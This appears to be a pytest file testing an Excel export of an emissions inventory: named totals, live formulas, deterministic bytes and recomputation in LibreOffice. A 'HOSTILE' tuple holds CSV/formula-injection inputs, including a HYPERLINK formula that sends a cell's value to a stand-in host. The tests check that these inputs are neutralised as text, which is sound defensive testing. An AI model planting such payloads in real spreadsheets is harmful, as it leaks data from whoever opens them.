"""The workbook holds the numbers, computes them again by itself, and runs nothing a snapshot says."""

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from apps.reports.errors import SnapshotInvalid
from apps.reports.formats.excel import write_excel
from apps.reports.shapes import InventorySnapshot
from tests.reports.samples import CONTRACT, GAS, POWER, WOOD, factors_of, line_of, sample_snapshot
from tests.reports.test_snapshot import JANUARY

HOSTILE = (
    '=HYPERLINK("http://h/?x="&A1,"y")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "*",
    ">0",
    "north",
    "North",
    "\x01 control",
    "x" * 40_000,
)
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def opened(content: bytes, **options: Any) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content), **options)


def named(workbook: Workbook, name: str) -> Any:
    """The value of a named cell."""
    ((sheet, cell),) = workbook.defined_names[name].destinations
    return workbook[sheet][cell].value


def varied_snapshot() -> InventorySnapshot:
    """Hostile names, both methods, biomass, a credit, parts of lines: everything a formula may stumble over."""
    lines = [
        line_of(source, site=text, month=JANUARY, quantity="1234.5678901", row=row)
        for row, text in enumerate(HOSTILE, start=2)
        for source in (GAS, WOOD, POWER, CONTRACT)
    ]
    lines.append(line_of(GAS, site="North", month=JANUARY, quantity="-3", row=99))
    return sample_snapshot(
        lines=[
            line | {"agent": line["site"], "formula_text": line["site"]} | ({"share": "0.333333"} if n % 3 else {})
            for n, line in enumerate(lines)
        ],
        boundary={
            "approach": "equity share",
            "entities": [{"name": HOSTILE[0], "share": 1}, {"name": HOSTILE[1], "share": "0.333333"}],
            "outside": 2,
        },
        factors=[row | {"citation": HOSTILE[0]} for row in factors_of((GAS, WOOD, POWER, CONTRACT))],
        organisation={"name": HOSTILE[0]},
        inputs=[{"file": "=1", "sha256": "+1", "rows_in": 1, "accepted": 0, "rejected": 1, "duplicate": 0}],
        rejected=[{"file": "=1", "row": 2, "column": "@x", "reason": "-1"}],
    )


@pytest.fixture(scope="module")
def sample() -> InventorySnapshot:
    return sample_snapshot()


@pytest.fixture(scope="module")
def workbook(sample: InventorySnapshot) -> Workbook:
    return opened(write_excel(sample))


def test_it_has_its_six_sheets(workbook: Workbook) -> None:
    assert workbook.sheetnames == ["Summary", "Lines", "Gases", "Factors", "Inputs", "Provenance"]


def test_totals_are_numbers_under_their_names(workbook: Workbook) -> None:
    assert named(workbook, "Total_CO2e_kg") == pytest.approx(930307.11078171622512, rel=1e-15)
    assert named(workbook, "Scope1_CO2e_kg") == 283041.9360375
    assert named(workbook, "Scope2_location_CO2e_kg") == pytest.approx(647265.17474421622512, rel=1e-15)
    assert named(workbook, "Biogenic_CO2_kg") == 0


def test_the_snapshot_is_named(workbook: Workbook, sample: InventorySnapshot) -> None:
    assert named(workbook, "Snapshot_hash") == sample["snapshot_hash"]


def test_every_line_has_number_unit_factor_and_citation(workbook: Workbook, sample: InventorySnapshot) -> None:
    rows = list(workbook["Lines"].iter_rows(min_row=2, values_only=True))
    titles = [cell.value for cell in workbook["Lines"][1]]
    assert len(rows) == 60
    for row, line in zip(rows, sample["lines"], strict=True):
        cells = dict(zip(titles, row, strict=True))
        assert cells["Quantity"] == float(line["quantity"])
        assert cells["Unit"] == line["unit"]
        assert cells["Factor"] == float(line["factor"]["value"])
        assert cells["Citation"] == line["factor"]["citation"]
        assert cells["Chain hash"] == line["chain_hash"]
        assert cells["Calculated, kg CO2e"] == pytest.approx(float(line["co2e_kg"]), rel=1e-15)


def test_where_digits_would_be_lost_the_exact_decimal_stands_beside(
    workbook: Workbook, sample: InventorySnapshot
) -> None:
    exact = [cell.value for cell in workbook["Lines"]["O"][1:]]
    for text, line in zip(exact, sample["lines"], strict=True):
        digits = Decimal(line["co2e_kg"]).as_tuple().digits
        assert text == (line["co2e_kg"] if len(digits) > 15 else None)
    assert any(exact)


def test_live_formulas_stand_beside_the_calculated_figures(workbook: Workbook) -> None:
    assert workbook["Gases"]["M2"].value == "=H2*J2"
    assert workbook["Lines"]["P2"].value == "=SUM(Gases!M2:M4)"
    assert workbook["Summary"]["F8"].value == (
        "=SUMPRODUCT(--EXACT(Lines!$B$2:$B$61,A8),Lines!$AG$2:$AG$61,Lines!$P$2:$P$61)"
    )
    assert workbook["Summary"]["F10"].value == "=F8+F9"


def test_headings_stay_in_view_and_are_repeated_on_paper(workbook: Workbook) -> None:
    for sheet in (workbook["Lines"], workbook["Gases"], workbook["Factors"]):
        assert str(sheet.freeze_panes).endswith("2")
        assert sheet.print_title_rows == "$1:$1"
        assert sheet["A1"].fill.fgColor.rgb.endswith("0E5B3A")


def test_completeness_and_rejections_are_listed(workbook: Workbook, sample: InventorySnapshot) -> None:
    rows = list(workbook["Inputs"].iter_rows(values_only=True))
    assert rows[1][:5] == ("activity-2024.csv", 64, 60, 3, 1)
    assert [row[3] for row in rows[-3:]] == [row["reason"] for row in sample["rejected"]]
    provenance = workbook["Provenance"].iter_rows(min_row=2, max_col=2, values_only=True)
    assumed = next(str(said) for name, said in provenance if name == "Taken for granted: Erdgas Halle 2")
    assert assumed.startswith("Another region: for United States (US), and the rows are in DE. Factor: Natural Gas")
    assert assumed.endswith("3 lines, 1234.5 kg CO2e. P. Reparer, 2025-02-01: No German figure is published")


def test_one_snapshot_gives_the_same_bytes(sample: InventorySnapshot, monkeypatch: pytest.MonkeyPatch) -> None:
    first = write_excel(sample)
    monkeypatch.setattr("time.time", lambda: 2_000_000_000.0)
    assert write_excel(sample) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2025-02-03T09:30:00Z</dcterms:modified>" in archive.read("docProps/core.xml")


def test_only_our_own_formulas_are_formulas() -> None:
    workbook = opened(write_excel(varied_snapshot()))
    ours = ("=SUM(", "=SUMIFS(", "=SUMPRODUCT(", "=IF(ABS(", "=IF(B", "=H", "=C", "=F")
    texts = 0
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert str(cell.value).startswith(ours), (sheet.title, cell.coordinate)
                    assert "HYPERLINK" not in str(cell.value)
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
                    texts += 1
    assert texts > 60


def test_text_too_long_for_a_cell_says_that_it_was_cut() -> None:
    workbook = opened(write_excel(varied_snapshot()))
    longest = max((str(cell.value) for cell in workbook["Lines"]["D"]), key=len)
    assert len(longest) == 32_767
    assert longest.endswith("… (cut)")


def test_a_broken_snapshot_is_never_written(sample: InventorySnapshot) -> None:
    with pytest.raises(SnapshotInvalid):
        write_excel({**sample, "gwp_set": "AR6"})


def test_an_empty_period_can_be_written() -> None:
    workbook = opened(write_excel(sample_snapshot(lines=[], factors=[], inputs=[], rejected=[])))
    assert named(workbook, "Total_CO2e_kg") == 0


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("kind", ["sample", "varied", "empty"])
def test_another_program_computes_the_same_totals(kind: str, tmp_path: Path) -> None:
    makers: dict[str, Callable[[], InventorySnapshot]] = {
        "sample": sample_snapshot,
        "varied": varied_snapshot,
        "empty": lambda: sample_snapshot(lines=[], factors=[], inputs=[], rejected=[]),
    }
    snapshot = makers[kind]()
    computed = opened(recomputed(write_excel(snapshot), tmp_path), data_only=True)
    checks = [
        cell.value
        for sheet in computed
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in ("agrees", "differs") or (isinstance(cell.value, str) and cell.value.startswith("#"))
    ]
    assert set(checks) == {"agrees"}
    summary = computed["Summary"]
    totals = {row[0]: row for row in summary.iter_rows(min_row=8, values_only=True) if row[0]}
    expected = float(snapshot["totals"]["co2e_kg"])
    assert totals["Total, scope 2 location-based"][5] == pytest.approx(expected, rel=1e-12)
    assert totals["Biogenic CO2, outside the scopes"][5] == pytest.approx(
        float(snapshot["totals"]["co2_biogenic_kg"]), rel=1e-12
    )


def recomputed(content: bytes, folder: Path) -> bytes:
    """The workbook as LibreOffice saves it after computing every formula."""
    assert SOFFICE is not None
    (folder / "in").mkdir()
    (folder / "in" / "report.xlsx").write_bytes(content)
    command = [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to"]
    target = ["xlsx:Calc MS Excel 2007 XML", "--outdir", str(folder), str(folder / "in" / "report.xlsx")]
    subprocess.run([*command, *target], check=True, capture_output=True, timeout=180)
    return (folder / "report.xlsx").read_bytes()
